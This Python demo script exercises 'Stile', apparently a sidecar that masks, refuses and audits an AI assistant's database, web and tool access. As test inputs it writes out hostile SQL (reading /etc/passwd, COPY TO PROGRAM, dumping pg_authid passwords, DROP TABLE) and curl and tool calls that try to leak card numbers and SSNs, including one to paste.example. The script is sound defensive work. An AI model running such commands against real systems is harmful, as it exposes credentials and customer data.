#!/usr/bin/env python3
"""The story that Stile makes true, on real parts, through plain psql.

A former contractor's token still works for an AI assistant that may read every customer table. What it gets, and what it
does not, is shown with and without the sidecar.

    demo.py            tells the story, then leaves everything up until Ctrl-C
    demo.py --check    checks each chapter's outcome, ends everything, exits 0 or 1
"""
import argparse
import contextlib
import json
import re
import signal
import sys
import time

from stack import DemoError, Stack, wait_for

BOLD, DIM, RED, GREEN, RESET = ("\033[1m", "\033[2m", "\033[31m", "\033[32m", "\033[0m") if sys.stdout.isatty() else [""] * 5


class Story:
    def __init__(self, stack):
        self.stack = stack
        self.failures = []
        self.chapter = 0
        self.seen = []
        # The contractor left; the token that his assistant carries has an hour to go.
        self.agent = stack.token("contractor@partner.example", ["support"], actor="assistant-7")
        self.analyst = stack.token("dana@shop.example", ["security", "auditors"], audience="stile-collector")

    # Telling

    def title(self, text):
        self.chapter += 1
        print(f"\n{BOLD}{self.chapter}. {text}{RESET}")

    def expect(self, what, truth):
        print(f"   {GREEN + 'ok' if truth else RED + 'NOT SO'}{RESET}  {what}", flush=True)
        if not truth:
            self.failures.append(f"chapter {self.chapter}: {what}")

    def ask(self, text, **options):
        answer = self.stack.psql(text, self.agent, **options)
        self.seen.append(answer)
        return answer

    def side_by_side(self, text):
        direct, through = self.stack.direct(text), self.ask(text)
        print(f"   {DIM}{text}{RESET}")
        left = ["without the sidecar", ""] + direct.splitlines()
        right = ["through the sidecar", ""] + through.splitlines()
        width = max(map(len, left))
        for index in range(max(len(left), len(right))):
            one = left[index] if index < len(left) else ""
            two = right[index] if index < len(right) else ""
            print(f"   {one:<{width}}  │  {two}")
        return direct, through

    # The chapters

    def masks(self):
        self.title("The same query, the same psql: cards and national ids come back masked")
        direct, through = self.side_by_side(
            "SELECT c.name, c.ssn, k.card_number FROM shop.customers c JOIN shop.cards k ON k.customer_id = c.id WHERE c.id = 42")
        ssn = re.search(r"\d{3}-\d\d-\d{4}", direct).group()
        card = re.search(r"\d{16}", direct).group()
        self.expect("the national id is gone", ssn not in through)
        self.expect("of the card, the last four are left", card not in through and card[-4:] in through)
        self.expect("the name, which nobody classified, is there", direct.splitlines()[2].split("|")[0].strip() in through)

        direct, through = self.side_by_side("SELECT holder, pan FROM shop.billing WHERE customer_id = 42")
        self.expect("a view that calls the column something else changes nothing", card in direct and card not in through)

        direct, through = self.side_by_side("SELECT id, notes FROM shop.customers WHERE id = 1")
        address = re.search(r"\S+@example\.org", direct).group()
        self.expect("an address in free text is found by what it looks like", address not in through and "mail to" in through)

        direct, through = self.side_by_side("SELECT reverse(ssn) AS x, md5(ssn) AS y FROM shop.customers WHERE id = 42")
        self.expect("what is computed from a national id is hidden too", ssn[::-1] in direct and ssn[::-1] not in through)

    def refusals(self):
        self.title("A bulk read, and anything that is not its business, is refused with the operator's words")
        for text, words in [
            ("SELECT * FROM shop.customers", "Name the customers you need."),
            ("SELECT id FROM shop.customers WHERE ssn LIKE '4%' LIMIT 5", "may decide nothing"),
            ("UPDATE shop.customers SET city = 'x' WHERE id = 1", "changes nothing"),
            ("DROP TABLE shop.orders", "changes nothing"),
            ("SELECT pg_read_file('/etc/passwd')", "ERROR"),
            ("COPY shop.customers TO PROGRAM 'cat'", "ERROR"),
            ("SELECT rolpassword FROM pg_authid", "ERROR"),
        ]:
            answer = self.ask(text)
            print(f"   {DIM}{text}{RESET}")
            print("   " + answer.replace("\n", "\n   "))
            self.expect("refused, and the session knows why", words in answer and "ERROR" in answer)
        answer = self.ask("SELECT 1 AS still_here")
        self.expect("the next statement is served", "still_here" in answer)
        city = self.stack.owner_sql("SELECT city FROM shop.customers WHERE id = 1")
        self.expect("and the server did none of it", city != "x" and self.stack.owner_sql("SELECT count(*) FROM shop.orders") == "30000")

    def approval(self):
        self.title("Health data waits for a person")
        text = "SELECT patient_id, visited, diagnosis, cost FROM clinic.visits WHERE patient_id = 4409 LIMIT 5;\n"
        process, out = self.stack.start_psql(text, self.agent)
        print(f"   {DIM}{text.strip()}{RESET}")
        pending = wait_for("the approval is listed", lambda: [
            a for a in json.loads(self.stack.run_stile("approvals", "list", "--output", "json", token=self.analyst))
            if a.get("state", "pending") == "pending"])
        print("   what the analyst sees:")
        print("   " + self.stack.run_stile("approvals", "list", token=self.analyst).rstrip().replace("\n", "\n   "))
        before = out.read_text()
        self.expect("the statement waits, and psql says for whom", "visited" not in before and "security" in before)
        self.stack.run_stile("approvals", "approve", pending[0]["id"], "--reason", "ticket 4711", token=self.analyst)
        process.communicate("\\q\n", timeout=30)
        answer = out.read_text()
        self.seen.append(answer)
        print("   " + answer.rstrip().replace("\n", "\n   "))
        self.expect("approved: the rows come, the diagnoses masked",
                    "visited" in answer and "HIV" not in answer and "4409" in answer)

    def evidence(self):
        self.title("All of it is in the auditors' hands a moment later")
        sessions = wait_for("the last session is listed with its close", lambda: [
            s for s in [json.loads(self.stack.run_stile("sessions", "list", "--output", "json", token=self.analyst))]
            if s and s[0].get("closed")])[0]
        print("   " + self.stack.run_stile("sessions", "list", token=self.analyst).rstrip().replace("\n", "\n   "))
        newest = sessions[0]["id"]
        shown = self.stack.run_stile("sessions", "show", newest, token=self.analyst)
        print("   " + shown.rstrip().replace("\n", "\n   "))
        verified = self.stack.run_stile("sessions", "verify", newest, token=self.analyst)
        print("   " + verified.rstrip().replace("\n", "\n   "))
        self.expect("the last session tells the held statement and who approved it",
                    "phi-needs-a-person" in shown and "dana@shop.example" in shown)
        self.expect("its chain and its signature hold", "ok: the chain is whole, and its close carries a valid signature" in verified)

    def identity(self):
        self.title("A group that is gone, a token that has expired: nothing, in the middle of a session too")
        wrong = self.stack.psql("SELECT 1", self.stack.token("contractor@partner.example", []))
        print("   " + wrong.replace("\n", "\n   "))
        self.expect("without a group that policy knows, nobody is let in", "FATAL" in wrong and "no access" in wrong)

        process, out = self.stack.start_psql("SELECT id, city FROM shop.customers WHERE id = 7;\n", "", port=self.stack.pod_port)
        wait_for("the pod's own token lets plain psql in", lambda: "(1 row)" in out.read_text())
        self.stack.write_pod_token(self.stack.token("assistant-7", []))
        wait_for("the sidecar reads the new token", lambda: "a token was renewed" in self.stack.log("sidecar"))

        def refused():
            process.stdin.write("SELECT id, city FROM shop.customers WHERE id = 8;\n")
            process.stdin.flush()
            return "ERROR" in out.read_text()
        wait_for("the open session is refused", refused)
        process.communicate("\\q\n", timeout=30)
        print("   " + next(line for line in out.read_text().splitlines() if "ERROR" in line))
        self.expect("the group was taken from the pod's token, and the open session gets nothing more", True)

        short = self.stack.token("contractor@partner.example", ["support"], lifetime=3)
        process, out = self.stack.start_psql("SELECT id, city FROM shop.customers WHERE id = 9;\n", short)
        wait_for("the token works while it lasts", lambda: "(1 row)" in out.read_text())

        def ended():
            with contextlib.suppress(BrokenPipeError):
                process.stdin.write("SELECT id FROM shop.customers WHERE id = 10;\n")
                process.stdin.flush()
            return "expired" in out.read_text()
        wait_for("the session ends with its token", ended)
        with contextlib.suppress(BrokenPipeError, ValueError):
            process.communicate("\\q\n", timeout=30)
        print("   " + next(line for line in out.read_text().splitlines() if "expired" in line))
        self.expect("the session ended when its token did", True)

    def ways_out(self):
        self.title("What it knows does not get out: by body, by URL, by field, by another path, by another host, by a tool")
        ssn = self.stack.owner_sql("SELECT ssn FROM shop.customers WHERE id = 42")
        card = self.stack.owner_sql("SELECT card_number FROM shop.cards WHERE id = 42")
        base = f"http://localhost:{self.stack.outside}"
        status, body = self.stack.curl(f"{base}/wiki/home", self.agent)
        self.expect("the wiki, which policy allows, is read by plain curl", status == "200" and "nine to five" in body)
        for what, url, arguments in [
            ("the same wiki, the card in the body", f"{base}/wiki/home", ["-d", f"page=notes {card}"]),
            ("the national id in the URL", f"{base}/wiki/search?q={ssn}", []),
            ("the card in a field", f"{base}/wiki/home", ["-H", f"X-Note: {card}"]),
            ("another path of that host", f"{base}/drop/box", ["-d", "nothing in particular"]),
            ("another host", "https://paste.example/new", ["-d", "nothing in particular"]),
        ]:
            status, body = self.stack.curl(url, self.agent, *arguments)
            self.seen.append(body)
            print(f"   {DIM}{what}{RESET}\n   {status} {body.strip()[:180]}")
            self.expect("refused", status == "403")
        for tool, words in [("create_ticket", f"Her number is {ssn}."), ("send_mail", "nothing in particular")]:
            answer = self.stack.call_tool(tool, {"text": words}, self.agent)
            self.seen.append(json.dumps(answer))
            print(f"   {DIM}the tool {tool}{RESET}\n   {json.dumps(answer)[:180]}")
            self.expect("refused", "error" in answer)
        answer = self.stack.call_tool("create_ticket", {"text": "The printer is on fire."}, self.agent)
        self.expect("a ticket about something else is filed", "filed" in json.dumps(answer))
        reached = [json.loads(line)["request"] for line in self.stack.log("outside").splitlines()]
        self.expect("and no more than the two that pass reached the outside",
                    reached == ["GET /wiki/home", "GET /wiki/home", "POST /mcp"])
        wait_for("each refusal is in the records", lambda: [len(self.stack.records(
            self.analyst, resource=resource, verdict="deny", limit=100)["items"]) for resource in ("internet", "tools")] == [5, 2])
        self.expect("each refusal is in the records", True)

    def nothing_leaks(self):
        self.title("No known value in what the agent saw, in any log, in the spool, in the collector's store")
        values = set()
        for query in ["SELECT ssn FROM shop.customers WHERE id IN (1, 42)", "SELECT card_number FROM shop.cards WHERE id IN (1, 42)",
                      "SELECT DISTINCT diagnosis FROM clinic.visits", "SELECT email FROM shop.customers WHERE id IN (1, 42)"]:
            values.update(self.stack.owner_sql(query).splitlines())
        places = {"the agent": "\n".join(self.seen).encode()}
        for path in self.stack.folder.rglob("*"):
            inside = path.relative_to(self.stack.folder).parts[0]
            if path.is_file() and inside in ("spool", "collector", "collector.log", "sidecar.log", "outside.log"):
                places[str(path.relative_to(self.stack.folder))] = path.read_bytes()
        for place, content in sorted(places.items()):
            found = [value for value in values if value.encode() in content]
            if found:
                self.expect(f"{place} holds {len(found)} of {len(values)} known values", False)
        self.expect(f"{len(values)} known values looked for in {len(places)} places", len(places) > 4)

    def tell(self):
        for chapter in (self.masks, self.refusals, self.approval, self.evidence, self.identity, self.ways_out, self.nothing_leaks):
            chapter()


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--check", action="store_true", help="check each outcome, end everything, exit 0 or 1")
    arguments = parser.parse_args()
    # A closed terminal and a service's stop end everything too; a shell starts what it runs in the background with SIGINT
    # ignored.
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        signal.signal(number, signal.default_int_handler)
    stack = None
    try:
        def say(text):
            print(f"{BOLD}==>{RESET} {text}", flush=True)
        stack = Stack(say)
        stack.make_keys()
        stack.start_postgres()
        stack.write_policy()
        stack.start_collector()
        stack.start_sidecar()
        stack.start_outside()
        story = Story(stack)
        story.tell()
        if story.failures:
            print(f"\n{RED}{len(story.failures)} outcomes were not as told:{RESET}")
            for failure in story.failures:
                print(f"  {failure}")
        if arguments.check:
            print(f"\n{story.chapter} chapters, {len(story.failures)} outcomes that were not so")
            return 1 if story.failures else 0
        print(f"""
{BOLD}Everything is still up.{RESET} Try it:

  PGPASSWORD='{story.agent}' \\
    psql -h 127.0.0.1 -p {stack.port} -U assistant -d postgres

  export STILE_COLLECTOR=http://127.0.0.1:{stack.http} STILE_TOKEN='{story.analyst}'
  {stack.programs['stile']} sessions follow
  {stack.programs['stile']} approvals watch

  policy   {stack.policy}   (edit it: it takes over for the next statement)
  metrics  http://127.0.0.1:{stack.ops}/metrics  http://127.0.0.1:{stack.http}/metrics
  logs     {stack.folder}/sidecar.log  {stack.folder}/collector.log

Ctrl-C ends all of it.""", flush=True)
        while all(process.poll() is None for process in stack.processes.values()):
            time.sleep(0.5)
        ended = next(name for name, process in stack.processes.items() if process.poll() is not None)
        raise DemoError(f"the {ended} ended by itself")
    except KeyboardInterrupt:
        print("\nending everything")
        return 0
    except DemoError as error:
        print(f"{RED}demo: {error}{RESET}", file=sys.stderr)
        if stack:
            for name in stack.processes:
                print(f"--- the last lines of the {name}'s log", file=sys.stderr)
                print("\n".join(stack.log(name).splitlines()[-8:]), file=sys.stderr)
        return 1
    finally:
        if stack:
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            stack.close()


if __name__ == "__main__":
    sys.exit(main())
